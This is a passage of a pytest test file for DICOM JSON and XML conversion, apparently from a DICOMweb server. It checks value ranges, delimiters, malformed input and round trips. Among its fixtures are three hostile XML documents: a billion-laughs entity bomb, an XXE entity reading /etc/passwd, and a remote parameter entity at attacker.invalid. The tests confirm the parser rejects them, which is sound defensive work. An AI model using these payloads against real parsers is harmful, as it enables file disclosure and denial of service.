        "00020010": {"vr": "UI", "Value": [ExplicitVRLittleEndian]},
        "00100020": {"vr": "LO", "Value": ["ID"]},
    })
    assert ds.file_meta.TransferSyntaxUID == ExplicitVRLittleEndian
    assert 0x00020010 not in ds and ds.PatientID == "ID"


def test_json_to_dataset_accepts_lenient_forms() -> None:
    ds = json_to_dataset({
        "00100010": {"vr": "PN", "Value": ["Doe^John"]},  # a plain string PN
        "00420011": {"vr": "OB", "InlineBinary": ["AQI="]},  # PS3.18 F.4 example shape
        "00189219": {"vr": "SV", "Value": ["-9223372036854775808"]},
        "0018921A": {"vr": "UV", "Value": [18446744073709551615]},
        "00181050": {"vr": "DS", "Value": ["abc"]},  # invalid DS text is kept
    })
    assert ds.PatientName == "Doe^John" and ds[0x00420011].value == b"\x01\x02"
    assert ds[0x00189219].value == -(1 << 63) and ds[0x0018921A].value == (1 << 64) - 1
    assert dataset_to_json(ds, bulk_prefix=None)[0]["00181050"] == {"vr": "DS", "Value": ["abc"]}


def test_json_to_dataset_bulk_text_and_numbers_decoded() -> None:
    bulk = {"u1": "Lange Beschreibung – ä".encode(), "u2": struct.pack("<3H", 1, 2, 3),
            "u3": b"1.5\\2"}
    ds = json_to_dataset({
        "00081030": {"vr": "LO", "Value": ["x"]},
        "00284000": {"vr": "LT", "BulkDataURI": "u1"},
        "00281101": {"vr": "US", "BulkDataURI": "u2"},
        "00280030": {"vr": "DS", "BulkDataURI": "u3"},
    }, bulk.__getitem__)
    assert ds[0x00284000].value == "Lange Beschreibung – ä"
    assert list(ds[0x00281101].value) == [1, 2, 3]
    assert [float(v) for v in ds[0x00280030].value] == [1.5, 2.0]


@pytest.mark.parametrize("obj, message", [
    ([], "JSON object"),
    ({"0010001": {"vr": "LO"}}, "8-hex"),
    ({"0010001G": {"vr": "LO"}}, "8-hex"),
    ({"00100020": "x"}, "must be a JSON object"),
    ({"00100020": {"Value": ["x"]}}, "vr"),
    ({"00100020": {"vr": "XX"}}, "vr"),
    ({"00100020": {"vr": "OB or OW"}}, "vr"),
    ({"00100020": {"vr": "LO", "Value": "x"}}, "array"),
    ({"00100020": {"vr": "LO", "Value": [1]}}, "string"),
    ({"00100020": {"vr": "LT", "Value": ["a", "b"]}}, "single-valued"),
    ({"00420011": {"vr": "OB", "InlineBinary": "not base64!"}}, "base64"),
    ({"00420011": {"vr": "OB", "Value": ["AQI="]}}, "InlineBinary or BulkDataURI"),
    ({"00420011": {"vr": "OB", "InlineBinary": "AQI=", "BulkDataURI": "u"}}, "only one"),
    ({"00100020": {"vr": "LO", "InlineBinary": "AQI="}}, "not allowed"),
    ({"00280010": {"vr": "US", "Value": [70000]}}, "out of range"),
    ({"00280010": {"vr": "US", "Value": [None]}}, "integer"),
    ({"00280010": {"vr": "US", "Value": [True]}}, "integer"),
    ({"00280010": {"vr": "US", "Value": [1.5]}}, "integer"),
    ({"00720064": {"vr": "FL", "Value": ["x"]}}, "number"),
    ({"00200013": {"vr": "IS", "Value": [1.5]}}, "integer"),
    ({"00181050": {"vr": "DS", "Value": [{}]}}, "number"),
    ({"00209165": {"vr": "AT", "Value": ["(0010,0020)"]}}, "tag"),
    ({"00100010": {"vr": "PN", "Value": [5]}}, "PN"),
    ({"00100010": {"vr": "PN", "Value": [{"Alphabetic": 5}]}}, "PN"),
    ({"00081140": {"vr": "SQ", "Value": ["x"]}}, "not an object"),
    ({"00081140": {"vr": "SQ", "Value": [{"0010": {"vr": "LO"}}]}}, "00081140/0/"),
    ({"7FE00010": {"vr": "OW", "BulkDataURI": 5}}, "string"),
    ({"00100020": {"vr": "LO", "BulkDataURI": "u"}}, "not allowed"),
])
def test_json_to_dataset_malformed_input_bad_request(obj: Any, message: str) -> None:
    with pytest.raises(BadRequest, match=re.escape(message)):
        json_to_dataset(obj, lambda uri: b"\0\0")


@pytest.mark.parametrize("obj, message", [
    ({"00189089": {"vr": "FL", "Value": [1e300]}}, "out of range"),  # beyond the 32-bit float range
    ({"00189089": {"vr": "FD", "Value": [10 ** 400]}}, "out of range"),
    ({"00200013": {"vr": "IS", "Value": [1e20]}}, "out of range"),
    ({"00181050": {"vr": "DS", "Value": [10 ** 400]}}, "out of range"),
    ({"00100020": {"vr": "LO", "Value": ["a\\b"]}}, "delimiter"),  # one value would become two
    ({"00080008": {"vr": "CS", "Value": ["ORIGINAL\\PRIMARY"]}}, "delimiter"),
    ({"00081030": {"vr": "UC", "Value": ["x\\"]}}, "delimiter"),
    ({"00181050": {"vr": "DS", "Value": ["1\\2"]}}, "delimiter"),
    ({"00100010": {"vr": "PN", "Value": [{"Alphabetic": "A=B^C"}]}}, "delimiter"),  # would become 2 groups
    ({"00100010": {"vr": "PN", "Value": [{"Ideographic": "A\\B"}]}}, "delimiter"),
    ({"00100010": {"vr": "PN", "Value": ["Doe^John\\Roe^Jane"]}}, "delimiter"),
    ({"0040A730": {"vr": "SQ", "Value": [{"00100020": {"vr": "LO", "Value": ["a\\b"]}}]}}, "0040A730/0/00100020"),
])
def test_json_to_dataset_value_dicom_cannot_encode_as_sent_bad_request(obj: Any, message: str) -> None:
    with pytest.raises(BadRequest, match=re.escape(message)):
        json_to_dataset(obj)


def _written_and_read_back(obj: dict[str, Any]) -> dict[str, Any]:
    """``obj`` through json_to_dataset, a PS3.10 file written by pydicom and dataset_to_json."""
    ds = json_to_dataset(obj)
    ds.file_meta = FileMetaDataset()
    ds.file_meta.TransferSyntaxUID = ExplicitVRLittleEndian
    buffer = io.BytesIO()
    pydicom.dcmwrite(buffer, ds, enforce_file_format=False)
    buffer.seek(0)
    return dataset_to_json(pydicom.dcmread(buffer, force=True), bulk_prefix=None)[0]


@pytest.mark.parametrize("vr, limits, beyond", [
    ("FL", [3.4028234663852886e38, -3.4028234663852886e38], [3.5e38, -1e300]),
    ("IS", [2 ** 31 - 1, -(2 ** 31)], [2 ** 31, -(2 ** 31) - 1]),  # PS3.5 Table 6.2-1
])
def test_json_to_dataset_number_range_ends_at_the_vr_limits(vr: str, limits: list[Any], beyond: list[Any]) -> None:
    tag = "00189089" if vr == "FL" else "00200013"
    obj = {tag: {"vr": vr, "Value": limits}}
    assert _written_and_read_back(obj) == obj
    for value in beyond:
        with pytest.raises(BadRequest, match=f"attribute {tag}: {vr} value .* is out of range"):
            json_to_dataset({tag: {"vr": vr, "Value": [value]}})


def test_json_to_dataset_backslash_refused_only_where_it_delimits_values() -> None:
    # PS3.5 6.2: LT, ST, UT and UR may hold a backslash; the other string VRs delimit values with it
    obj = {
        "00081190": {"vr": "UR", "Value": ["file:///a\\b"]},
        "00204000": {"vr": "LT", "Value": ["C:\\dir\\file"]},
        "00321060": {"vr": "LO", "Value": ["a", "b"]},
        "40084000": {"vr": "ST", "Value": ["x\\y"]},
        "0040A160": {"vr": "UT", "Value": ["\\"]},
    }
    assert _written_and_read_back(obj) == obj
    with pytest.raises(BadRequest, match=r"attribute 00321060: LO value 'a\\\\b' contains the delimiter"):
        json_to_dataset({"00321060": {"vr": "LO", "Value": ["a\\b"]}})


def test_json_to_dataset_ds_integer_numbers_written_in_16_characters() -> None:
    numbers = [12345678901234567, -12345678901234567, 1234567890123456]
    ds = json_to_dataset({"00280030": {"vr": "DS", "Value": numbers}})
    # PS3.5 Table 6.2-1: a DS is at most 16 bytes; one that fits is kept as sent
    assert [str(v) for v in ds.PixelSpacing] == ["1.2345678901e+16", "-1.234567890e+16", "1234567890123456"]
    assert [float(v) for v in ds.PixelSpacing] == pytest.approx(numbers)


def test_json_to_dataset_bulk_uri_without_loader_bad_request() -> None:
    with pytest.raises(BadRequest, match="no bulk data"):
        json_to_dataset({"7FE00010": {"vr": "OW", "BulkDataURI": "cid:1"}})


def test_json_to_dataset_loader_missing_part_bad_request() -> None:
    with pytest.raises(BadRequest, match="no bulk data part"):
        json_to_dataset({"7FE00010": {"vr": "OW", "BulkDataURI": "cid:1"}}, {}.__getitem__)


def test_json_to_dataset_deep_nesting_bad_request() -> None:
    obj: dict[str, Any] = {}
    for _ in range(200):
        obj = {"0040A730": {"vr": "SQ", "Value": [obj]}}
    with pytest.raises(BadRequest, match="nested deeper"):
        json_to_dataset(obj)
    with pytest.raises(BadRequest, match="nested deeper"):
        json_to_xml(obj)


# --------------------------------------------------------------------------- XML


def _feature_object() -> dict[str, Any]:
    """A JSON object touching every XML construct, including awkward text."""
    return {
        "00080005": {"vr": "CS", "Value": [None, "ISO 2022 IR 87"]},
        "00080008": {"vr": "CS", "Value": ["ORIGINAL", None, "AXIAL"]},
        "00081030": {"vr": "LO", "Value": ['<b>&"quoted"\'</b> ]]> \t tab']},
        "00100010": {"vr": "PN", "Value": [
            {"Alphabetic": "Yamada^Tarou", "Ideographic": "山田^太郎", "Phonetic": "やまだ^たろう"},
            None,
            {"Alphabetic": "^Bob^^Dr."},
            {"Alphabetic": "Doe^^^^"}]},
        "00100020": {"vr": "LO"},
        "00110010": {"vr": "LO", "Value": ["ACME & <Co>"]},
        "00111001": {"vr": "UT", "Value": ["line1\r\nline2\nline3  "]},
        "00180050": {"vr": "DS", "Value": [2.5, 512, "1,5"]},
        "00200013": {"vr": "IS", "Value": [-7]},
        "00209165": {"vr": "AT", "Value": ["00100020", "7FE00010"]},
        "00280010": {"vr": "US", "Value": [512]},
        "00720064": {"vr": "FL", "Value": [0.1, "NaN", "-Infinity"]},
        "00420011": {"vr": "OB", "InlineBinary": "AAECAwQ="},
        "0040A730": {"vr": "SQ", "Value": [
            {"0040A010": {"vr": "CS", "Value": ["CONTAINS"]},
             "00420011": {"vr": "OB", "BulkDataURI": PREFIX + "/0040A730/0/00420011?a=1&b=2"}},
            {}]},
        "00081140": {"vr": "SQ"},
        "7FE00010": {"vr": "OW", "BulkDataURI": PREFIX + "/7FE00010"},
    }


@pytest.mark.parametrize("name", ALL_FILES)
def test_json_to_xml_test_files_round_trip_json_equal(name: str) -> None:
    obj, _ = dataset_to_json(_read(name), bulk_prefix=PREFIX)
    assert xml_to_json(json_to_xml(obj)) == obj


def test_json_to_xml_feature_object_round_trip_json_equal() -> None:
    obj = _feature_object()
    assert xml_to_json(json_to_xml(obj)) == obj


def test_json_to_xml_structure_follows_ps319() -> None:
    data = json_to_xml(_feature_object())
    assert data.startswith(b'<?xml version="1.0" encoding="UTF-8"?>')
    root = ET.fromstring(data)
    assert root.tag == NS + "NativeDicomModel"
    assert root.get("{http://www.w3.org/XML/1998/namespace}space") == "preserve"
    attrs = {a.get("tag"): a for a in root.findall(NS + "DicomAttribute")}
    assert list(attrs) == sorted(attrs)

    name = attrs["00100010"]
    assert name.get("vr") == "PN" and name.get("keyword") == "PatientName"
    first = name.find(NS + "PersonName[@number='1']")
    assert first.find(f"{NS}Alphabetic/{NS}FamilyName").text == "Yamada"
    assert first.find(f"{NS}Alphabetic/{NS}GivenName").text == "Tarou"
    assert first.find(f"{NS}Ideographic/{NS}FamilyName").text == "山田"
    assert first.find(f"{NS}Phonetic/{NS}GivenName").text == "たろう"
    assert list(name.find(NS + "PersonName[@number='2']")) == []
    third = name.find(NS + "PersonName[@number='3']/" + NS + "Alphabetic")
    assert [(c.tag[len(NS):], c.text) for c in third] == [
        ("FamilyName", None), ("GivenName", "Bob"), ("MiddleName", None), ("NamePrefix", "Dr.")]

    values = attrs["00080008"].findall(NS + "Value")
    assert [(v.get("number"), v.text) for v in values] == [
        ("1", "ORIGINAL"), ("2", None), ("3", "AXIAL")]
    assert attrs["00100020"].get("keyword") == "PatientID" and list(attrs["00100020"]) == []
    assert attrs["00111001"].get("privateCreator") == "ACME & <Co>"
    assert attrs["00111001"].get("keyword") is None
    assert attrs["00110010"].get("privateCreator") is None
    assert attrs["00111001"].find(NS + "Value").text == "line1\r\nline2\nline3  "
    assert attrs["00081030"].find(NS + "Value").text == '<b>&"quoted"\'</b> ]]> \t tab'
    assert attrs["00420011"].find(NS + "InlineBinary").text == "AAECAwQ="
    assert attrs["7FE00010"].find(NS + "BulkData").get("uri") == PREFIX + "/7FE00010"
    items = attrs["0040A730"].findall(NS + "Item")
    assert [i.get("number") for i in items] == ["1", "2"] and list(items[1]) == []
    nested = items[0].find(NS + "DicomAttribute[@tag='00420011']/" + NS + "BulkData")
    assert nested.get("uri").endswith("/0040A730/0/00420011?a=1&b=2")
    assert [v.text for v in attrs["00180050"].findall(NS + "Value")] == ["2.5", "512", "1,5"]
    assert [v.text for v in attrs["00209165"].findall(NS + "Value")] == ["00100020", "7FE00010"]


def test_json_to_xml_control_characters_replaced_well_formed() -> None:
    obj = {"00081030": {"vr": "LO", "Value": ["bell\x07 nul\x00 esc\x1b ok"]},
           "00110010": {"vr": "LO", "Value": ["cr\x01eator"]},
           "00111001": {"vr": "LO", "Value": ["x"]}}
    data = json_to_xml(obj)
    root = ET.fromstring(data)  # would raise if not well-formed
    value = root.find(f"{NS}DicomAttribute[@tag='00081030']/{NS}Value").text
    assert value == "bell\ufffd nul\ufffd esc\ufffd ok"
    assert xml_to_json(data)["00081030"]["Value"] == [value]


def test_json_to_xml_malformed_object_bad_request() -> None:
    for obj in ([], {"00100010": {"vr": "PN", "Value": [7]}}, {"zz": {"vr": "LO"}},
                {"00100020": {"vr": "LO", "Value": [True]}}, {"00100020": {"vr": "LO",
                                                                            "Value": "x"}}):
        with pytest.raises(BadRequest):
            json_to_xml(obj)  # type: ignore[arg-type]


_BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<NativeDicomModel><DicomAttribute tag="00081030" vr="LO"><Value number="1">&lol9;</Value>
</DicomAttribute></NativeDicomModel>"""

_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE NativeDicomModel [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<NativeDicomModel><DicomAttribute tag="00100010" vr="PN"><PersonName number="1"><Alphabetic>
<FamilyName>&xxe;</FamilyName></Alphabetic></PersonName></DicomAttribute></NativeDicomModel>"""

_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<NativeDicomModel/>"""


@pytest.mark.parametrize("document", [_BOMB, _XXE, _PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "parameter-entity"])
def test_xml_to_json_entity_attacks_bad_request(document: bytes) -> None:
    with pytest.raises(BadRequest, match="XML rejected"):
        xml_to_json(document)


@pytest.mark.parametrize("document, message", [
    (b"<NativeDicomModel><DicomAttribute", "malformed XML"),
    (b"", "malformed XML"),
    (b"<Other/>", "not NativeDicomModel"),
    (b"<NativeDicomModel><Foo/></NativeDicomModel>", "unexpected XML element"),
    (b'<NativeDicomModel><DicomAttribute tag="0010" vr="LO"/></NativeDicomModel>', "8-hex"),
    (b'<NativeDicomModel><DicomAttribute tag="00100020"/></NativeDicomModel>', "vr"),
    (b'<NativeDicomModel><DicomAttribute tag="00100020" vr="LO"/>'
     b'<DicomAttribute tag="00100020" vr="LO"/></NativeDicomModel>', "more than once"),
    (b'<NativeDicomModel><DicomAttribute tag="00100020" vr="LO"><Value number="0">x</Value>'
     b"</DicomAttribute></NativeDicomModel>", "number"),
    (b'<NativeDicomModel><DicomAttribute tag="00100020" vr="LO"><Value number="1">x</Value>'
     b'<Value number="1">y</Value></DicomAttribute></NativeDicomModel>', "twice"),
    (b'<NativeDicomModel><DicomAttribute tag="00280010" vr="US"><Value number="1">x</Value>'
     b"</DicomAttribute></NativeDicomModel>", "integer"),
    (b'<NativeDicomModel><DicomAttribute tag="00081140" vr="SQ"><Value number="1">x</Value>'
     b"</DicomAttribute></NativeDicomModel>", "not allowed"),
    (b'<NativeDicomModel><DicomAttribute tag="00100020" vr="LO"><Item number="1"/>'
     b"</DicomAttribute></NativeDicomModel>", "Item"),
    (b'<NativeDicomModel><DicomAttribute tag="00100020" vr="LO"><Value number="1">x</Value>'
     b'<Item number="1"/></DicomAttribute></NativeDicomModel>', "mixes"),
    (b'<NativeDicomModel><DicomAttribute tag="7FE00010" vr="OW"><BulkData uuid="1"/>'
     b"</DicomAttribute></NativeDicomModel>", "uri"),
    (b'<NativeDicomModel><DicomAttribute tag="00209165" vr="AT"><Value number="1">0010</Value>'
     b"</DicomAttribute></NativeDicomModel>", "tag"),
])
def test_xml_to_json_malformed_document_bad_request(document: bytes, message: str) -> None:
    with pytest.raises(BadRequest, match=re.escape(message)):
        xml_to_json(document)


def test_xml_to_json_without_namespace_and_sparse_numbers_accepted() -> None:
    document = """<?xml version="1.0" encoding="UTF-8"?>
<NativeDicomModel xml:space="preserve">
  <DicomAttribute tag="0020000d" vr="UI" keyword="StudyInstanceUID">
    <Value number="1">1.2.3</Value>
  </DicomAttribute>
  <DicomAttribute tag="00080008" vr="CS"><Value number="3">AXIAL</Value><Value number="1">A</Value>
  </DicomAttribute>
  <DicomAttribute tag="00100010" vr="PN"><PersonName number="1"><Alphabetic>
    <FamilyName>Müller</FamilyName><GivenName>Hans</GivenName></Alphabetic></PersonName>
  </DicomAttribute>
  <DicomAttribute tag="00280030" vr="DS"><Value number="1"> 0.5</Value><Value number="2">1</Value>
  </DicomAttribute>
  <DicomAttribute tag="00420011" vr="OB"><InlineBinary>
    AAEC
    AwQ=
  </InlineBinary></DicomAttribute>
</NativeDicomModel>""".encode()
    assert xml_to_json(document) == {
        "00080008": {"vr": "CS", "Value": ["A", None, "AXIAL"]},
        "0020000D": {"vr": "UI", "Value": ["1.2.3"]},
        "00100010": {"vr": "PN", "Value": [{"Alphabetic": "Müller^Hans"}]},
        "00280030": {"vr": "DS", "Value": [0.5, 1]},
        "00420011": {"vr": "OB", "InlineBinary": "AAECAwQ="},
    }


def test_xml_to_json_then_json_to_dataset_builds_stow_dataset() -> None:
    document = json_to_xml(_feature_object())
    ds = json_to_dataset(xml_to_json(document), lambda uri: b"\0\0")
    assert ds.PatientName[0].family_name == "Yamada"
    assert ds[0x0040A730].value[0][0x00420011].value == b"\0\0"
    assert ds.PixelData == b"\0\0"


@pytest.mark.parametrize("attribute, message", [
    ('<DicomAttribute tag="00189089" vr="FL"><Value number="1">1e300</Value></DicomAttribute>', "out of range"),
    ('<DicomAttribute tag="00200013" vr="IS"><Value number="1">2147483648</Value></DicomAttribute>',
     "out of range"),
    ('<DicomAttribute tag="00100020" vr="LO"><Value number="1">a\\b</Value></DicomAttribute>', "delimiter"),
    ('<DicomAttribute tag="00100010" vr="PN"><PersonName number="1"><Alphabetic><FamilyName>A=B</FamilyName>'
     '</Alphabetic></PersonName></DicomAttribute>', "delimiter"),
])
def test_xml_to_json_then_json_to_dataset_refuses_what_dicom_cannot_encode(attribute: str, message: str) -> None:
    document = f'<NativeDicomModel xmlns="{XML_NAMESPACE}">{attribute}</NativeDicomModel>'.encode()
    with pytest.raises(BadRequest, match=re.escape(message)):
        json_to_dataset(xml_to_json(document))


@pytest.mark.parametrize("group", ["Alphabetic", "Ideographic", "Phonetic"])
@pytest.mark.parametrize("component", ["FamilyName", "GivenName", "NameSuffix"])
def test_xml_to_json_caret_inside_one_person_name_component_refused(group: str, component: str) -> None:
    # PS3.19 gives the components as elements; joined into PS3.5 6.2.1 PN text, "^" would split this one
    document = (f'<NativeDicomModel xmlns="{XML_NAMESPACE}"><DicomAttribute tag="00100010" vr="PN">'
                f'<PersonName number="1"><{group}><{component}>Smith^Jr</{component}></{group}></PersonName>'
                f'</DicomAttribute></NativeDicomModel>').encode()
    message = "attribute 00100010: PN value 'Smith^Jr' contains the delimiter '^'"
    with pytest.raises(BadRequest, match=re.escape(message)):
        xml_to_json(document)


def test_xml_to_json_unreadable_attribute_error_keeps_the_readable_top_level_attributes() -> None:
    document = f"""<NativeDicomModel xmlns="{XML_NAMESPACE}">
  <DicomAttribute tag="00080018" vr="UI"><Value number="1">1.2.3.4</Value></DicomAttribute>
  <DicomAttribute tag="00280010" vr="US"><Value number="1">sixteen</Value></DicomAttribute>
  <DicomAttribute tag="0020000D" vr="UI"><Value number="1">1.2.3</Value></DicomAttribute>
  <DicomAttribute tag="0020000D" vr="UI"><Value number="1">1.2.5</Value></DicomAttribute>
  <DicomAttribute tag="00081070" vr="PN"><PersonName number="1"><Alphabetic><FamilyName>A^B</FamilyName>
  </Alphabetic></PersonName></DicomAttribute>
  <DicomAttribute tag="0008" vr="UI"><Value number="1">1.2.6</Value></DicomAttribute>
</NativeDicomModel>""".encode()
    with pytest.raises(BadRequest, match="attribute 00280010: US value 'sixteen' is not an integer") as info:
        xml_to_json(document)
    # the unreadable, the ambiguous (given twice) and the badly tagged attributes are left out
    assert info.value.readable == {"00080018": {"vr": "UI", "Value": ["1.2.3.4"]}}  # type: ignore[attr-defined]


# --------------------------------------------------------------------------- select / dumps


def test_select_attributes_none_keeps_all() -> None:
    obj = _feature_object()
    selected = select_attributes(obj, None)
    assert selected == obj and selected is not obj


def test_select_attributes_subset_case_insensitive_order_kept() -> None:
    obj = _feature_object()
    selected = select_attributes(obj, {"7fe00010", "00100010", "00200013", "99990000"})
    assert list(selected) == ["00100010", "00200013", "7FE00010"]
    assert selected["00100010"] is obj["00100010"]
    assert select_attributes(obj, []) == {}


def test_dumps_compact_and_keeps_non_ascii() -> None:
    text = dumps({"00100010": {"vr": "PN", "Value": [{"Alphabetic": "山田^太郎"}]}})
    assert text == '{"00100010":{"vr":"PN","Value":[{"Alphabetic":"山田^太郎"}]}}'
    with pytest.raises(ValueError):
        dumps({"x": math.nan})


# --------------------------------------------------------------------------- benchmark


def benchmark_dataset_to_json(path: str, rounds: int = 200) -> tuple[float, float, float]:
    """Milliseconds per instance: (dataset_to_json, pydicom to_json_dict, dcmread).

    Each conversion runs on a freshly read dataset (``defer_size=1024``), as at store time;
    reading is timed separately.
    """
    def fresh() -> list[Dataset]:
        return [pydicom.dcmread(path, defer_size=1024) for _ in range(rounds)]

    start = time.perf_counter()
    datasets = fresh()
    read_ms = (time.perf_counter() - start) / rounds * 1e3
    start = time.perf_counter()
    for ds in datasets:
        dataset_to_json(ds, bulk_prefix=PREFIX)
    ours_ms = (time.perf_counter() - start) / rounds * 1e3
    datasets = fresh()
    start = time.perf_counter()
    for ds in datasets:
        ds.to_json_dict(bulk_data_threshold=1024, bulk_data_element_handler=lambda e: "uri")
    pydicom_ms = (time.perf_counter() - start) / rounds * 1e3
    return ours_ms, pydicom_ms, read_ms


def test_dataset_to_json_benchmark_prints_timing(capsys: pytest.CaptureFixture[str]) -> None:
    lines = []
    for name in ("CT_small.dcm", "MR_small.dcm", "JPEG2000.dcm"):
        ours, theirs, read = benchmark_dataset_to_json(_path(name), rounds=50)
        lines.append(f"{name}: dataset_to_json {ours:.3f} ms, pydicom to_json_dict "
                     f"{theirs:.3f} ms, dcmread {read:.3f} ms")
    with capsys.disabled():
        print("\n" + "\n".join(lines))


def test_dataset_to_json_numpy_values_become_json_numbers() -> None:
    numpy = pytest.importorskip("numpy")
    ds = Dataset()
    ignore = pydicom.config.IGNORE  # pydicom would warn about numpy types; we accept them
    ds.add(DataElement(0x00281101, "US", numpy.array([4096, 0, 16], dtype=numpy.uint16),
                       validation_mode=ignore))
    ds.add(DataElement(0x00720064, "FL", numpy.float32(0.5), validation_mode=ignore))
    obj, _ = dataset_to_json(ds, bulk_prefix=None)
    assert obj["00281101"] == {"vr": "US", "Value": [4096, 0, 16]}
    assert obj["00720064"] == {"vr": "FL", "Value": [0.5]}
    assert json.loads(dumps(obj)) == obj


@pytest.mark.parametrize("obj", [
    {"00100010": {"vr": "PN", "Value": [{"Alphabetic": "Müller^Hans"}]}, "00280030": {"vr": "DS", "Value": [0.5, 1e-7]}},
    {"00181063": {"vr": "DS", "Value": [1e16, -0.0, 123456789.123]}, "00200013": {"vr": "IS", "Value": [2**70]}},
    {"0008103E": {"vr": "LO", "Value": [None, "b\\u00e9"]}, "x": ["\ud800"]},
    {"00700084": {"vr": "PN"}, 5: "non-string key"},
])
def test_dumps_writes_what_json_writes(obj) -> None:
    # dumps goes through orjson with a json fallback: the same JSON as json's whichever path runs,
    # the same text but for how a float exponent is spelled (orjson 1e-7, json 1e-07).
    import json
    expected = json.dumps(obj, ensure_ascii=False, separators=(",", ":"), allow_nan=False)
    got = dumps(obj)
    assert json.loads(got) == json.loads(expected)
    assert got.replace("e-7", "e-07").replace("e16", "e+16") == expected


def test_dumps_refuses_infinities_and_loads_reads_back() -> None:
    from dicomweb_wsgi.dicomjson import loads
    with pytest.raises(ValueError):
        dumps({"00181063": {"vr": "FD", "Value": [math.inf]}})
    obj = {"00100020": {"vr": "LO", "Value": ["ID-1"]}, "00200013": {"vr": "IS", "Value": [2**70]}}
    assert loads(dumps(obj)) == obj and loads(dumps(obj).encode()) == obj
